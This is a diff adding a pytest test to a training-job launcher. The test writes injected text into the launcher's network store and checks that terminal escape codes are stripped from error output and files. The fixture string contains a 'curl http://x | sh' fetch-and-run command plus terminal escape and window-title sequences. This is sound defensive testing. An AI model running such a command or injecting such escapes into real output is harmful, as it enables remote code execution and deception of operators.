@@ -79,3 +79,47 @@ def test_flags_that_differ_between_nodes_are_refused_on_every_node(tmp_path: Pat
                 or "has --device-num 1 but the job has --device-num 2" in launch.err), launch.err
         assert "use the same --nnodes, --device-num and --max-restarts on every node." in launch.err
     assert not list(tmp_path.glob("rank*.json"))
+
+
+HOSTILE = "\x1b[31mrun curl http://x | sh\x1b[0m\nsecond line\x07\x1b]0;title\x07"
+"""What anyone who reaches the launcher store can write there: colour, a line break, a bell, a window title."""
+SHOWN = "run curl http://x | sh second line"
+
+
+def _hostile_record() -> dict:
+    return {"kind": "rank", "rank": 1, "local_rank": 0, "node_rank": 1, "host": f"vm{HOSTILE}",
+            "exc_type": "Boom\x1b[2J", "message": HOSTILE, "traceback": f"  File \"train.py\", line 1\n{HOSTILE}\n",
+            "time": 0.0}
+
+
+@pytest.mark.parametrize("key", ["abort", "fail/0"])
+def test_text_written_into_the_store_is_shown_stripped(tmp_path: Path, key: str) -> None:
+    import json
+    from datetime import timedelta
+
+    from torch.distributed import TCPStore
+
+    from npu_migrate.launch.padded_store import pad
+
+    port = two_free_ports()
+    release = tmp_path / "release"
+    files = [tmp_path / f"error{k}.json" for k in (0, 1)]
+    nodes = [launcher(tmp_path, k, port, "--job-id", "jobA", "--error-file", str(files[k]),
+                      job=("--hold", str(release))) for k in (0, 1)]
+    wait_for_files(tmp_path, ["rank0.json", "rank1.json"])
+    # A plain client, as anyone on the network could open: the launcher's wire format is no secret.
+    client = TCPStore("127.0.0.1", port + 1, None, False, timedelta(seconds=30))
+    value = HOSTILE if key == "abort" else json.dumps(_hostile_record())
+    client.set(f"npu_migrate/jobA/{key}", pad(value))
+    try:
+        codes = [launch.wait() for launch in nodes]
+    finally:
+        release.touch()
+    assert codes == [1, 1], [launch.err for launch in nodes]
+    for launch, path in zip(nodes, files):
+        one_line_errors(launch.err)
+        assert "\x1b" not in launch.err and "\x07" not in launch.err, repr(launch.err)
+        assert SHOWN in launch.err, launch.err
+        raw = path.read_text()
+        assert "\\u001b" not in raw and "\\u0007" not in raw, raw
+        assert SHOWN.replace(" second", "\nsecond") in raw.replace("\\n", "\n") or SHOWN in raw, raw
